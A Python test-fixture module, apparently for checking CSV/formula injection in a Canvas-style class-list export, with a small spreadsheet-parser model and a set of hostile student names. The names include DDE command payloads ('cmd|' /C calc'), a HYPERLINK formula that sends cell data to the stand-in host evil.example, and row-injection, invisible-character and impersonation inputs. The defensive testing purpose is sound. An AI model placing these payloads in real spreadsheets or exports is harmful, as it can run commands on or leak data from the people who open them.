"""Names that people chose with care, and spreadsheets as far as it matters what they make of them."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
HEAD = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]


@dataclass(frozen=True)
class Reader:
    """A spreadsheet as far as it matters here: what separates cells, and that quotes count only where a cell begins."""

    separators: str

    def rows(self, text: str) -> list[list[str]]:
        rows, row, cell, at, quoted = [], [], "", 0, False
        while at < len(text):
            c = text[at]
            if quoted:
                if text.startswith('""', at):
                    cell, at = cell + '"', at + 1
                elif c == '"':
                    quoted = False
                else:
                    cell += c
            elif c == '"' and not cell:
                quoted = True
            elif c in self.separators or c in "\r\n":
                row, cell = [*row, cell], ""
                if c in "\r\n":
                    rows, row = [*rows, row], []
            else:
                cell += c
            at += 1
        return [r for r in [*rows, [*row, cell]] if any(r)]

    def live(self, text: str) -> list[str]:
        """Cells that it would compute."""
        return [cell for row in self.rows(text) for cell in row if _computed(cell)]


def _computed(cell: str) -> bool:
    text = cell.lstrip()
    return text.startswith(SIGNS) and text != "-" and not text.lstrip("+-").replace(".", "", 1).isdigit()


READERS = {"Excel": Reader(","), "Excel in Germany": Reader(";"), "LibreOffice": Reader(",;\t"), "pasted": Reader("\t")}


def as_written(rows: list[list[str]]) -> str:
    """What most programs write."""
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


FORMULAS = {
    "a formula": '=HYPERLINK("http://evil.example/"&A1,"see here")',
    "a sum": "+1+cmd|' /C calc'!A0",
    "a difference": "-2+3+cmd|' /C calc'!A0",
    "an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a wide sign": "＝1+1",
    "blanks first": "  =1+1",
    "a tab first": "\t=1+1",
    "a return first": "\r=1+1",
    "behind a semicolon": "Mallory;=1+1",
    "behind a semicolon and blanks": "Mallory;  =1+1",
    "behind a semicolon and quotes": 'Mallory;"=1+1',
    "behind a tab": "Mallory\t@SUM(1)",
    "behind a line break": "Mallory\n=1+1",
    "behind two semicolons": "x;;+1+cmd|' /C calc'!A0",
}
NAMES = {
    **FORMULAS,
    "cells of marks": "Mallory;graded;25;25;25;25",
    "a quote that opens": '"Mallory',
    "quotes within": 'Mall"ory",25,"',
    "a line of its own": 'Mallory\r\n"Doe, Jane",5001,1000001,jdoe,A,0',
    "a NUL": "Mal\x00lory",
    "text that runs backwards": "Mal\u202e52\u202c",
    "characters that nobody sees": "\u200bMal\u2060lory\ufeff",
    "the row of full marks": "Points Possible",
    "the row of full marks within": "Eve (Points   Possible) Mallory",
    "an essay": "Mallory " * 20_000,
    "letters under letters": "M" + "\u0301\u0316" * 4000,
    "a neighbour's login": "jdoe",
    "a neighbour's number": "1000001",
    "a neighbour's name": "Jane Doe",
    "a mark of the platform": "Manual Posting",
    "an empty name": "\u200b \u200b",
}
assert all(_computed(c) for n in FORMULAS.values() for r in READERS.values() for c in r.live(as_written([["x", n, "y"]])))


def people(name: str, login: str = "mallory") -> list[list[str]]:
    """A class list in Canvas's form, Mallory between two others."""
    return [
        HEAD,
        ["Doe, Jane", "5001", "1000001", "jdoe", "A"],
        [name, "5003", "1000003", login, "A"],
        ["O'Brien, Zoë", "5002", "0000007", "zoe", "A"],
    ]


def steers(text: str) -> bool:
    return any(c in text for c in "\x1b\x00\u202e\u2060\u200b\r")
